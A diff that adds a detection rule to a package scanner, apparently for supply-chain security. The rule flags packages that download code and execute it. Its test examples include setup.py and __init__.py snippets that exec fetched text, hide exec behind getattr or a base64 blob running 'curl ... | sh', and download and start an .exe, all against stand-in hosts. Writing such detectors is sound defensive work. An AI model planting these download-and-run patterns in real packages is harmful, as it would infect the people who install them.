@@ -1,0 +1,132 @@
+"""Second stage: what comes from the network is executed."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from pratique.facts.model import PackageFacts
+from pratique.facts.python.model import Call, Does, Source, Taint
+from pratique.facts.shell import ShellFacts, read_shell
+from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
+from pratique.rules.claims import calls, claim, command, hidden, when
+from pratique.rules.rule import Example, Rule
+
+_ID = "second-stage"
+
+
+def _check(facts: PackageFacts) -> Iterator[Finding]:
+    for path, call in calls(facts):
+        if Does.RUN_CODE in call.does and (taints := _fetched_code(call)):
+            yield _finding(path, call, taints, f"code fetched from {_origin(taints)} is executed {when(call.phase)}")
+        elif Does.RUN_PROCESS in call.does and (taints := _fetched_program(call)):
+            yield _finding(path, call, taints, f"a program fetched from {_origin(taints)} is run {when(call.phase)}")
+        elif Does.RUN_PROCESS in call.does and (shell := read_shell(command(call))).runs_download:
+            yield _finding(path, call, (), f"a command fetches {_first(shell)} and runs it {when(call.phase)}")
+    for script in facts.shells:
+        if script.runs_download and facts.index[script.path].role.value != "script":
+            yield _script(script)
+
+
+def _fetched_code(call: Call) -> tuple[Taint, ...]:
+    """Labels of the executed text itself, not of a namespace handed along."""
+    first = call.arguments.get("0")
+    return tuple(t for t in (first.taints if first else ()) if t.source is Source.NETWORK)
+
+
+def _fetched_program(call: Call) -> tuple[Taint, ...]:
+    ran = call.arguments.get("ran")
+    if ran is not None:
+        return tuple(t for t in ran.taints if t.source is Source.NETWORK)
+    first = call.arguments.get("0") or call.arguments.get("args")
+    whole = first is not None and first.text.startswith("<") and first.text.find(">") == len(first.text) - 1
+    return tuple(t for t in first.taints if t.source is Source.NETWORK) if whole and first else ()
+
+
+def _finding(path: str, call: Call, taints: tuple[Taint, ...], message: str) -> Finding:
+    covert = hidden(call, " ".join([*(t.detail for t in taints), command(call)]))
+    sure = call.phase.automatic or covert
+    return claim(
+        _ID,
+        Behaviour.SECOND_STAGE,
+        path,
+        call,
+        message,
+        severity=Severity.CRITICAL if sure else Severity.HIGH,
+        confidence=Confidence.HIGH if sure else Confidence.LOW,
+        proven=call.phase.automatic,
+        taints=taints,
+    )
+
+
+def _origin(taints: tuple[Taint, ...]) -> str:
+    return max((t.detail for t in taints), key=len, default="") or "the network"
+
+
+def _first(shell: ShellFacts) -> str:
+    return shell.downloads[0] if shell.downloads else "a program"
+
+
+def _script(script: ShellFacts) -> Finding:
+    return Finding(
+        rule=_ID,
+        behaviour=Behaviour.SECOND_STAGE,
+        severity=Severity.LOW,
+        confidence=Confidence.LOW,
+        phase=Phase.CALL,
+        path=script.path,
+        line=script.line,
+        message=f"a script fetches {_first(script)} and runs it",
+        code=script.code,
+    )
+
+
+RULE = Rule(
+    id=_ID,
+    behaviour=Behaviour.SECOND_STAGE,
+    summary="What is fetched from the network is executed, imported, or written to a file and run.",
+    gain="The real payload never lies in the package: the attacker chooses it later, per victim, and takes it away again.",
+    honest="Downloaders of models, browsers and data write files and do not run them; tools that run what they fetched do "
+    "so when a person calls them, from the vendor's own host.",
+    check=_check,
+    loud=(
+        Example(
+            title="executed at install, through an import alias",
+            files={"setup.py": "import requests as r\nexec(r.get('https://stage.example.invalid/a').text)\n"},
+        ),
+        Example(
+            title="through __import__ and getattr",
+            files={
+                "setup.py": "u = __import__('urllib.request', fromlist=['x'])\n"
+                "getattr(__import__('builtins'), 'ex' + 'ec')(u.urlopen('http://192.0.2.7/a').read())\n"
+            },
+        ),
+        Example(
+            title="behind one decoder layer",
+            files={
+                "setup.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi43L2EgfCBzaCcp'))\n"
+            },
+        ),
+        Example(
+            title="written to a file and started when imported",
+            files={
+                "pkg/__init__.py": "import os, urllib.request\np = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
+                "with open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('http://192.0.2.7/a').read())\nos.startfile(p)\n"
+            },
+        ),
+    ),
+    quiet=(
+        Example(
+            title="a model downloader",
+            files={
+                "pkg/__init__.py": "import requests\ndef fetch(path):\n    r = requests.get('https://models.example.invalid/m')\n"
+                "    open(path, 'wb').write(r.content)\n"
+            },
+        ),
+        Example(
+            title="the version is read from a file",
+            files={
+                "setup.py": "exec(open('pkg/version.py').read())\nfrom setuptools import setup\nsetup(name='pkg')\n"
+            },
+        ),
+    ),
+)
